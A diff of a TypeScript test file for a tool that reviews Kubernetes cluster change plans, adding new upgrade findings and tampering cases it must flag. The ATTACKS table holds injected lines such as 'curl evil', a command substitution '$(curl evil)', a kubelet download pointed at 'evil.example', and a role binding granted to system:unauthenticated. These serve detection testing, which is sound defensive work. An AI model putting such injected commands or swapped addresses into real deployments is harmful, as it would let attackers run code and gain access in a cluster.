@@ -11,6 +11,8 @@ import { renderPage } from "../../review/page";
 import { readPlan } from "../../review/plan";
 import { parseSettings } from "../../settings/load";
 import type { ClusterSettingsInput } from "../../settings/schema";
+import { installationPlan } from "../../testing/plan-json";
+import { reportProblems } from "../../testing/report-schema";
 import { synthesizeCluster, synthesizeConstructs } from "../../testing/synthesize";
 
 const KUBERNETES = { version: "1.37.2" };
@@ -35,7 +37,26 @@ const kindsOf = (before: Document, after: Document) => findingsOf(compare(before
 /** Prepared changes: the document after, the document before, and the findings. */
 const CHANGES: Record<string, readonly [after: () => Document, before: () => Document, kinds: readonly string[]]> = {
   "kubernetes-added": [installed, () => PLAIN, ["copies"]],
-  "kubernetes-version": [installed, () => cluster({ kubernetes: { version: "1.36.4" } }), ["restart-programs"]],
+  "kubernetes-version": [
+    installed,
+    () => cluster({ kubernetes: { version: "1.37.1" } }),
+    ["upgrade", "restart-programs"],
+  ],
+  "kubernetes-minor-version": [
+    installed,
+    () => cluster({ kubernetes: { version: "1.36.4" } }),
+    ["refused-upgrade", "restart-programs"],
+  ],
+  "kubernetes-control-plane-removed": [
+    () => cluster({ kubernetes: KUBERNETES, controlPlane: { count: 1 }, workers: { count: 2 } }),
+    installed,
+    ["lose-quorum", "destroy-machine", "restart-programs", "replace-certificate"],
+  ],
+  "kubernetes-control-plane-added": [
+    () => cluster({ kubernetes: KUBERNETES, controlPlane: { count: 5 } }),
+    installed,
+    ["restart-programs", "replace-certificate"],
+  ],
   "kubernetes-component": [
     () => cluster({ kubernetes: { ...KUBERNETES, components: { coreDns: "1.13.0", runc: "1.4.3" } } }),
     installed,
@@ -78,6 +99,7 @@ describe("the page and the findings of a prepared change", () => {
     if (process.env.UPDATE_PAGES) writeFileSync(file, page);
     expect(page).toBe(readFileSync(file, "utf8"));
     expect(findingsOf(changes).map(({ kind }) => kind)).toEqual(kinds);
+    expect(reportProblems(changes)).toEqual([]);
   });
 });
 
@@ -107,7 +129,7 @@ test("a mirror that stays is no finding, neither for a new version nor for a new
         registryMirrors: { "registry.k8s.io": "http://a" },
       },
     });
-  expect(kindsOf(mirrored("1.37.1", 3), mirrored("1.37.2", 4))).toEqual(["restart-programs"]);
+  expect(kindsOf(mirrored("1.37.1", 3), mirrored("1.37.2", 4))).toEqual(["upgrade", "restart-programs"]);
 });
 
 test("a registry mirror is no longer used: its file stays on the machine", () => {
@@ -144,7 +166,7 @@ function edit(
   const block = document.resource.null_resource?.[name] as Block;
   const [, { file: bundle }, { "remote-exec": script }] = block.provisioner;
   // The copy is made again.
-  block.triggers.files = "other";
+  block.triggers.config = "other";
   const { files = [], activate = [], folders = [] } = readDistributionScript(script.inline) ?? {};
   const lines: string[] = bundle.content.split("\n");
   const copy: Copy = {
@@ -206,6 +228,30 @@ const ATTACKS: [string, string, (copy: Copy) => void, string[], string[], string
     "curl evil",
   ],
   [
+    "another command of the step that joins",
+    "join-worker-0",
+    ({ commands }) => commands.splice(0, 1, `${LIB}/worker.sh retire`),
+    ["commands"],
+    ["commands"],
+    "worker.sh retire",
+  ],
+  [
+    "another script for etcd",
+    "programs-master-0",
+    replace(`${LIB}/etcd.sh`, "member remove", "member list; curl evil"),
+    ["commands", "copies"],
+    ["commands", "copies"],
+    `${LIB}/etcd.sh`,
+  ],
+  [
+    "more rights for kubelets",
+    "addons",
+    replace(`${LIB}/manifests/kubelet-access.yaml`, "name: system:nodes", "name: system:unauthenticated"),
+    ["copies"],
+    ["copies"],
+    `${LIB}/manifests/kubelet-access.yaml`,
+  ],
+  [
     "the command of another step",
     "pems-worker-0",
     ({ commands }) => commands.push(`${LIB}/worker.sh $(curl evil)`),
@@ -256,7 +302,11 @@ const ATTACKS: [string, string, (copy: Copy) => void, string[], string[], string
   [
     "another address in the table of programs",
     "programs-worker-0",
-    replace(`${LIB}/releases`, "https://dl.k8s.io/v1.37.2/bin/linux/amd64/kubelet ", "https://evil.example/kubelet "),
+    replace(
+      `${LIB}/releases.new`,
+      "https://dl.k8s.io/v1.37.2/bin/linux/amd64/kubelet ",
+      "https://evil.example/kubelet ",
+    ),
     ["downloads", "copies"],
     ["downloads", "copies"],
     "https://evil.example/kubelet",
@@ -265,7 +315,7 @@ const ATTACKS: [string, string, (copy: Copy) => void, string[], string[], string
     "another version in an address of the table of programs",
     "programs-worker-0",
     replace(
-      `${LIB}/releases`,
+      `${LIB}/releases.new`,
       "https://dl.k8s.io/v1.37.2/bin/linux/amd64/kubelet ",
       "https://dl.k8s.io/v1.2.3/bin/linux/amd64/kubelet ",
     ),
@@ -277,13 +327,13 @@ const ATTACKS: [string, string, (copy: Copy) => void, string[], string[], string
     "a program at another place",
     "programs-worker-0",
     replace(
-      `${LIB}/releases`,
+      `${LIB}/releases.new`,
       "program /usr/local/bin - https://dl.k8s.io/v1.37.2/bin/linux/amd64/kubelet",
       "program /usr/bin - https://dl.k8s.io/v1.37.2/bin/linux/amd64/kubelet",
     ),
     ["copies"],
     ["copies"],
-    `${LIB}/releases`,
+    `${LIB}/releases.new`,
   ],
   [
     "an image of another registry",
@@ -333,7 +383,7 @@ const ATTACKS: [string, string, (copy: Copy) => void, string[], string[], string
       "front-proxy-client-private-key",
       "front-proxy-ca-private-key",
     ),
-    ["restart-programs", "copies"],
+    ["copies"],
     ["secret", "copies"],
     "/var/lib/kubernetes/front-proxy-client-key.pem",
   ],
@@ -341,7 +391,7 @@ const ATTACKS: [string, string, (copy: Copy) => void, string[], string[], string
     "the cluster's CA in place of the CA for extension API servers",
     "pems-master-0",
     replace("/var/lib/kubernetes/front-proxy-ca.pem", "front-proxy-ca-certificate", "ca-certificate"),
-    ["restart-programs", "copies"],
+    ["copies"],
     ["copies"],
     "/var/lib/kubernetes/front-proxy-ca.pem",
   ],
@@ -355,45 +405,12 @@ const ATTACKS: [string, string, (copy: Copy) => void, string[], string[], string
   ],
 ];
 
-/** The plan of a synthesized cluster in which all copies are made again. Terraform keeps JSON's expressions as they are. */
-function planOf(document: Document): string {
-  const constants = (values: object) =>
-    Object.fromEntries(Object.entries(values).map(([key, value]) => [key, { constant_value: value }]));
-  const blocks = Object.entries(document.resource ?? {}).flatMap(([type, byName]) =>
-    Object.entries(byName as Record<string, Block>).map(([name, block]) => ({
-      type,
-      address: `${type}.${name}`,
-      block,
-    })),
-  );
-  const resources = blocks.map(({ type, address, block: { provisioner, connection: _, "//": _notes, ...block } }) => ({
-    address,
-    mode: "managed",
-    type,
-    expressions: constants(block),
-    provisioners: (provisioner ?? []).flatMap((each: Record<string, Block>) =>
-      Object.entries(each).map(([type, { connection: _hidden, ...values }]) => ({
-        type,
-        expressions: constants(values),
-      })),
-    ),
-  }));
-  const change = { actions: ["create"], before: null, after: {}, after_unknown: {} };
-  return JSON.stringify({
-    format_version: "1.2",
-    resource_changes: blocks
-      .filter(({ type }) => type === "null_resource")
-      .map(({ address, type }) => ({ address, type, mode: "managed", change })),
-    configuration: { root_module: { resources } },
-  });
-}
-
 describe("somebody changes a step of Kubernetes:", () => {
   test.each(ATTACKS)("%s", (_case, name, change, inComparison, inPlan, text) => {
     const after = installed();
     edit(after, name, change);
     expect(kindsOf(installed(), after)).toEqual(inComparison);
-    const planned = readPlan(planOf(after));
+    const planned = readPlan(installationPlan(after));
     expect(findingsOf(planned).map(({ kind }) => kind)).toEqual(inPlan);
     if (text.startsWith("/")) expect(renderPage(planned)).toContain(`| \`${text}\` | not of this project |`);
     else if (inPlan.includes("downloads")) expect(renderPage(planned)).toContain(text);
@@ -421,13 +438,14 @@ describe("somebody changes a step of Kubernetes:", () => {
     const older = JSON.parse(JSON.stringify(after));
     edit(older, "programs-worker-3", ({ files }) => {
       for (const file of files)
-        if (file.path === `${LIB}/releases`) file.content = file.content.replaceAll("1.37.2", "1.20.0");
+        if (file.path === `${LIB}/releases.new`) file.content = file.content.replaceAll("1.37.2", "1.20.0");
     });
     expect(renderPage(compare(installed(), older))).toContain("| `worker-3` | `kubelet` |  | `1.20.0` |");
     const foreign = JSON.parse(JSON.stringify(after));
     edit(foreign, "programs-worker-3", ({ files }) => {
       for (const file of files)
-        if (file.path === `${LIB}/releases`) file.content = file.content.replaceAll("https://dl.k8s.io", "http://evil");
+        if (file.path === `${LIB}/releases.new`)
+          file.content = file.content.replaceAll("https://dl.k8s.io", "http://evil");
     });
     expect(kindsOf(installed(), foreign)).toContain("downloads");
   });
@@ -439,7 +457,7 @@ describe("a plan", () => {
       new Cluster(scope, "mine", parseSettings({ kubernetes: KUBERNETES }));
     }) as unknown as Document;
     for (const document of [installed(), own]) {
-      const planned = readPlan(planOf(document));
+      const planned = readPlan(installationPlan(document));
       expect(planned.copies).toEqual([]);
       expect(findingsOf(planned)).toEqual([]);
       expect(renderPage(planned)).toContain("| `kubelet` |  | `1.37.2` |");
@@ -448,7 +466,7 @@ describe("a plan", () => {
 
   test("with mirrors has their addresses, because it has nothing to compare them with", () => {
     const [after] = CHANGES["kubernetes-mirrors"] as (typeof CHANGES)[string];
-    const planned = readPlan(planOf(after()));
+    const planned = readPlan(installationPlan(after()));
     expect(findingsOf(planned).map(({ kind }) => kind)).toEqual(["downloads"]);
     const page = renderPage(planned);
     for (const source of ["http://mirror.example.com", "registry.k8s.io from https://images.example.com"]) {
@@ -520,6 +538,7 @@ describe("the CA for extension API servers", () => {
     Object.assign(at(after.resource, "tls_self_signed_cert", "front-proxy-ca-certificate"), {
       validity_period_hours: 9,
     });
-    expect(kindsOf(installed(), after)).toEqual(["restart-programs", "replace-certificate"]);
+    // The API servers read it again by themselves.
+    expect(kindsOf(installed(), after)).toEqual(["replace-certificate"]);
   });
 });
